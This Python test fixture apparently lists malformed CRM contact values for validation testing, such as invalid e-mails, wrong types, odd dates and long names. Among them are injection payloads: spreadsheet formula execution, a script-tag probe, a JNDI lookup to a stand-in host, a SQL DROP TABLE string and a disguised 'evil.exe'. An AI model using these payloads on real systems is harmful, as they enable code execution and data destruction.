"""Values that no form should have let through. Each entry: kind, share of all people, fields, values; both in turn."""

from __future__ import annotations

from typing import Any, Final

from connectors.simulators.world.companies import BY_DOMAIN_NAME, LEAVER, SHARED, TEAM, UNKNOWN_OWNERS

ABSENT: Final = object()  # the key is not there at all

_LONG_NAME = "Maria Theresia Wilhelmine Antonia Josepha Walburga von und zu Hohenstaufen-Lindenberg"
_LETTER = "Sehr geehrte Damen und Herren, wir hatten im Frühjahr über das Angebot gesprochen; bitte rufen Sie zurück.\n"
_DEEP = {"a": {"b": {"c": {"d": {"e": [1, 2, {"f": None}]}}}}}
_SUSPECT = (
    "=HYPERLINK(\"http://evil.example\",\"click\")", "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1", "=cmd|' /C calc'!A0",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<b>Bold</b> & <i>more", "{{firstName}}", "{% raw %}{{ x }}", "${jndi:ldap://x.example/a}",
    "'; DROP TABLE users; --", "&lt;already escaped&gt;", "[[feed.item]]",
)  # fmt: skip
_NAMES = ("firstName", "lastName", "jobTitle", "companyName", "notes")

VALUES: tuple[tuple[str, float, tuple[str, ...], tuple[Any, ...]], ...] = (
    # addresses
    ("e-mail invalid", 0.006, ("email",), (
        "mara@@northpine.example", "no-at-sign.example", "mara@", "@northpine.example", "mara lind@northpine.example", "n/a",
        "mara@northpine", "mara.@northpine.example", "mara@-northpine.example", "a@b..example", "mailto:mara@northpine.example",
        "mara@northpine.example; lena@northpine.example",
    )),
    ("e-mail missing", 0.003, ("email",), (ABSENT,)),
    ("e-mail blank", 0.002, ("email",), ("", "  ", None)),
    ("e-mail too long", 0.0006, ("email",), tuple(f"{'a' * 60}{number:04}@{'subdomain.' * 8}northpine.example" for number in range(500))),
    ("e-mail quoted or odd", 0.001, ("email",), tuple(
        text for number in range(500) for text in (
            f"\"quoted {number}\"@northpine.example", f"o'brien.{number}@northpine.example", f"ünïcode{number}@northpine.example",
            f"x{number}@[192.0.2.7]",
        )
    )),
    # stages
    ("stage missing", 0.012, ("lifecycleStage",), (ABSENT,)),
    ("stage blank", 0.006, ("lifecycleStage",), ("", "   ", None)),
    ("stage unknown", 0.008, ("lifecycleStage",), ("Prospect (old)", "churned", "opportunity", "3", "customer?", "Kunde")),
    ("stage in odd case", 0.02, ("lifecycleStage",), (" MQL ", "CUSTOMER", "Sql", "Evangelist\t", " subscriber", "Lead", "mql")),
    ("stage of another type", 0.001, ("lifecycleStage",), (3, ["customer"], True)),
    # names
    ("no first name", 0.015, ("firstName",), (ABSENT, "", None)),
    ("no last name", 0.012, ("lastName",), (ABSENT, "", "  ", None, ".")),
    ("name in odd case", 0.01, ("firstName", "lastName"), ("mARA", "VON DER HEIDE", "lena", "o'NEILL")),
    ("whole name in one field", 0.005, ("firstName",), ("Dr. Mara Lindqvist, MBA", "Weber, Jonas", "Anna & Peter")),
    ("first name too long", 0.0015, ("firstName",), (_LONG_NAME, "Ж" * 51, "x" * 300)),
    ("last name too long", 0.0015, ("lastName",), (_LONG_NAME, "Wolfeschlegelsteinhausenbergerdorff" * 2, "名" * 51)),
    ("emoji", 0.004, _NAMES, ("Zoë 🚀", "👩‍👩‍👧‍👦", "Renée 🏳️‍🌈", "𝓜𝓪𝓻𝓪")),
    ("other scripts", 0.003, _NAMES, ("王小明", "Γιώργος", "Ольга Иванова", "ปรียา", "김철수")),
    ("right to left", 0.002, _NAMES, ("محمد العربي", "שרה כהן", "\u202eevil.exe\u202c")),
    ("control characters", 0.003, _NAMES, (
        "Ma\u0007ra", "Lind\u000bqvist", "a\u0000b", "zero\u200bwidth", "line\nbreak", "\ufeffBOM", "\u001f",
    )),
    ("formula", 0.003, _NAMES, _SUSPECT),
    ("markup or template code", 0.004, _NAMES, _MARKUP),
    ("blank text", 0.004, (*_NAMES, "street", "plan"), ("   ", "", "\u00a0", "\t")),
    # long text
    ("job title too long", 0.001, ("jobTitle",), ("Global Head of Everything and Deputy " * 5,)),
    ("street too long", 0.0008, ("street",), ("Hinterhof rechts, dritter Aufgang, " * 9,)),
    ("company name too long", 0.001, ("companyName",), ("Arbeitsgemeinschaft der vereinigten Werkstätten für Feinmechanik " * 4,)),
    ("long notes", 0.004, ("notes",), (_LETTER * 3, _LETTER * 30)),
    ("very long notes", 0.0004, ("notes",), (_LETTER * 290,)),
    # types
    ("score of another type", 0.006, ("score",), ("n/a", "12", 12.5, True, "", None, " 7 ", "1,200", "1e3", -1, 2**31, "٣")),
    ("yes or no as text", 0.004, ("newsletter",), ("yes", "no", "true", 1, 0, "Y", "", None, "maybe")),
    ("money as text", 0.004, ("annualSpend",), ("1.200,50", "€ 900", "12 000", 1e15, -5, "1,234.56", "unknown", 0.1 + 0.2)),
    ("plan of another type", 0.002, ("plan",), (3, None, ["free"], "FREE ", {"name": "free"})),
    ("array as text", 0.002, ("interests",), ("logistics, billing", {}, [None, ""], ["a"] * 300, [["nested"]], "[]")),
    ("object as text", 0.002, ("preferences",), ("{\"language\": \"de\"}", _DEEP, [{"language": "de"}, {"language": "fr"}], {}, None)),
    ("devices", 0.02, ("devices",), ([{"token": "f0e1", "platform": "APNS"}], [])),
    ("number too large", 0.001, ("legacyId",), (9_223_372_036_854_775_808, 18_446_744_073_709_551_615, -9_007_199_254_740_993, 1e300)),
    # dates
    ("birthday out of range", 0.002, ("birthday",), ("0001-01-01", "1752-09-02", "9999-12-31", "1899-12-30", "2061-05-05", "1970-01-01")),
    ("birthday unreadable", 0.003, ("birthday",), ("31.12.1990", "1990-13-45", "12/31/90", 631152000000, "unknown", "1990", "2023-02-29")),
    ("demo time in another form", 0.003, ("lastDemoAt",), (
        "2023-05-05 10:00:00", "2023-05-05T10:00:00Z", "2023-05-05 10:00:00 +05:30", 1683280800000, 1683280800, "05/06/2023",
        "2023-03-26 02:30:00",
    )),
    ("signup out of range", 0.001, ("signupDate",), tuple(f"{year}-01-01 00:00:00 +00:00" for year in (1970, 2199, 1600))),
    ("updated at time zero", 0.0005, ("profileUpdatedAt",), ("1970-01-01 00:00:00 +00:00",)),
    ("phone odd", 0.008, ("phoneNumber",), (
        "n/a", "+49 (0)221 / 123-45 ext. 6", "00492211234567", 492211234567, "call after 5", "+1 555 0100 " * 6, "０３−１２３４", "-",
    )),
    # owners
    ("owner unknown", 0.012, ("ownerEmail",), UNKNOWN_OWNERS),
    ("owner blank", 0.012, ("ownerEmail",), ("", ABSENT, None, " ")),
    ("owner in odd case", 0.004, ("ownerEmail",), (f" {SHARED.title()} ", LEAVER.upper())),
    ("owner left", 0.006, ("ownerEmail",), (LEAVER,)),
    ("owner shared by two users", 0.003, ("ownerEmail",), (SHARED,)),
    ("owner by domain name", 0.003, ("ownerEmail",), (BY_DOMAIN_NAME,)),
    ("owner is a team or a name", 0.002, ("ownerEmail",), (TEAM, "Jonas Weber", "-", 17)),
    ("lists of another type", 0.001, ("emailListIds",), (ABSENT, None, [])),
)  # fmt: skip
